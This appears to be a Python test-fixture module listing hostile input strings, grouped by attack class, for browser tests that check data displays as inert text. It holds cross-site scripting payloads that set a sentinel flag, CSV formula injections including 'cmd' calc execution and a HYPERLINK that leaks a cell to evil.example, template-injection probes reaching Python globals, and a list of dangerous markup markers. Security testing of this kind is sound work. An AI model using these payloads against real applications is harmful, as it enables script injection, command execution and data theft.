"""A corpus of hostile strings: every one must show as inert text wherever data is shown.

Each payload that would run JavaScript if it reached the page as markup, a URL or a
template sets the sentinel global ``window.__pwned`` (or opens a dialog), so a browser test
can prove that none ran by reading ``window.__pwned`` in the page and in every iframe.
The strings are grouped by attack class; :data:`PAYLOADS` is the flat list.
"""

from __future__ import annotations

SENTINEL = "__pwned"
JS = f"window.{SENTINEL}=1"

SCRIPT_TAGS = [
    f"<script>{JS}</script>",
    f"<SCRIPT>{JS}</SCRIPT>",
    f"<script src=data:text/javascript,{JS}></script>",
    f"<scr<script>ipt>{JS}</scr</script>ipt>",
    f'"><script>{JS}</script>',
    f"</textarea><script>{JS}</script>",
    f"</title><script>{JS}</script>",
    f"<script>/*</script><script>*/{JS}</script>",
]

EVENT_HANDLERS = [
    f'<img src=x onerror="{JS}">',
    f"<img src=x onerror={JS}>",
    f"<svg onload={JS}>",
    f'<body onload="{JS}">',
    f'<div onmouseover="{JS}" style="position:fixed;inset:0">hover</div>',
    f'<input autofocus onfocus="{JS}">',
    f'<details open ontoggle="{JS}">',
    f'<video><source onerror="{JS}"></video>',
    f'<a href="#" onclick="{JS}">click me</a>',
    f'" onmouseover="{JS}" x="',
    f"' onfocus='{JS}' autofocus x='",
    f'<marquee onstart="{JS}">',
]

DANGEROUS_URLS = [
    f"javascript:{JS}",
    f"JaVaScRiPt:{JS}",
    f" javascript:{JS}",
    f"java\tscript:{JS}",
    f"javascript&#58;{JS}",
    f"data:text/html,<script>{JS}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+",
    f"vbscript:msgbox({JS})",
    f"https://example.org/\"><script>{JS}</script>",
    f"https://example.org/' onmouseover='{JS}",
]

BROKEN_HTML = [
    f"<img src=x onerror={JS}//",
    f"<<script>{JS}//<</script>",
    f"<a href='javascript:{JS}'>unterminated",
    "<div><span><b>never closed",
    "</div></div></div></body></html>",
    f"<!--<script>{JS}</script>-->",
    f"<style>@import 'javascript:{JS}';</style>",
    f"<![CDATA[<script>{JS}</script>]]>",
]

SVG_AND_FRAMES = [
    f"<svg><script>{JS}</script></svg>",
    f'<svg><a xlink:href="javascript:{JS}"><text x="20" y="20">svg link</text></a></svg>',
    f"<svg><animate onbegin={JS} attributeName=x dur=1s>",
    f'<iframe src="javascript:{JS}"></iframe>',
    f'<iframe srcdoc="<script>parent.{JS}</script>"></iframe>',
    f'<object data="javascript:{JS}"></object>',
    f'<embed src="data:text/html,<script>{JS}</script>">',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{JS}">',
]

MARKDOWN_TRICKS = [
    f"[click me](javascript:{JS})",
    f"[click me](data:text/html,<script>{JS}</script>)",
    f"![image](x\" onerror=\"{JS})",
    f"[a]: javascript:{JS}\n\n[reference link][a]",
    f"<javascript:{JS}>",
    "**bold** _italic_ `code` # heading\n> quote\n- list",
    f"[innocent](https://example.org \"title\" onclick=\"{JS}\")",
    ":material/warning: $x^2$ :red[red text]",
]

CSV_FORMULAS = [
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]

UNICODE_TRICKS = [
    "Kyiv \u202eexe.txt\u202c strike",
    "\u202d\u202aLR embed\u202c and \u2066isolate\u2069 and \u2067RTL\u2069",
    "zero\u200bwidth\u200cjoiner\u200dand\ufeffBOM\u2060word joiner",
    "line\u2028separator\u2029paragraph",
    "null\x00byte and \x07bell \x1b[31mANSI\x1b[0m",
    "Z\u0351\u0354\u0354a\u0338\u0353l\u0336\u033cg\u0335o",
]

#: The product of an evaluated template; tests assert it never appears (7 * 1234567).
TEMPLATE_PRODUCT = "8641969"

TEMPLATES = [
    "{{7*7}}",
    "{{ 7*1234567 }} ${7*1234567} <%= 7*1234567 %> #{7*1234567}",
    "${7*7}",
    "<%= 7*7 %>",
    "{% for x in range(3) %}{{x}}{% endfor %}",
    "{{ self.__init__.__globals__ }}",
    "#{7*7} %{7*7} {7*7}",
    "{{ '' }}{{ cycler.__init__.__globals__.os }}",
]

QUOTE_BREAKERS = [
    f"</script><script>{JS}</script>",
    f"'\";{JS};//",
    f"\\\";{JS};//",
    f"`;{JS};`",
    f"\"}}]);{JS};//",
    f"</script><img src=x onerror={JS}>",
    "\\u003cscript\\u003e",
    "_ _a_ __b__ var_name suffix_1",
]

LONG = [
    "A" * 100_000,
    ("<b>" * 2_000) + "deep",
    ("x" * 99_990) + f"<script>{JS}</script>",
]

GROUPS: dict[str, list[str]] = {
    "script_tags": SCRIPT_TAGS,
    "event_handlers": EVENT_HANDLERS,
    "dangerous_urls": DANGEROUS_URLS,
    "broken_html": BROKEN_HTML,
    "svg_and_frames": SVG_AND_FRAMES,
    "markdown": MARKDOWN_TRICKS,
    "csv_formulas": CSV_FORMULAS,
    "unicode": UNICODE_TRICKS,
    "templates": TEMPLATES,
    "quote_breakers": QUOTE_BREAKERS,
    "long": LONG,
}

#: Every payload, in group order.
PAYLOADS: list[str] = [p for group in GROUPS.values() for p in group]

#: Short payloads (under 2,000 characters) for places where 100k strings only slow a test.
SHORT_PAYLOADS: list[str] = [p for p in PAYLOADS if len(p) < 2_000]

#: Payloads that would run JavaScript if treated as markup or as a URL.
EXECUTING: list[str] = [p for p in PAYLOADS if SENTINEL in p]

#: Markers whose presence in rendered output, unescaped, would mean markup got through.
DANGEROUS_MARKUP = ("<script", "<img", "<svg", "<iframe", "<object", "<embed", "<body", "<input", "<details",
                    "<video", "<marquee", "<math", "<style", "<a ")


def payload_id(payload: str) -> str:
    """Return a short readable test id for a payload."""
    text = payload.encode("unicode_escape").decode("ascii")
    return (text[:40] + f"…[{len(payload)}]") if len(text) > 40 else text
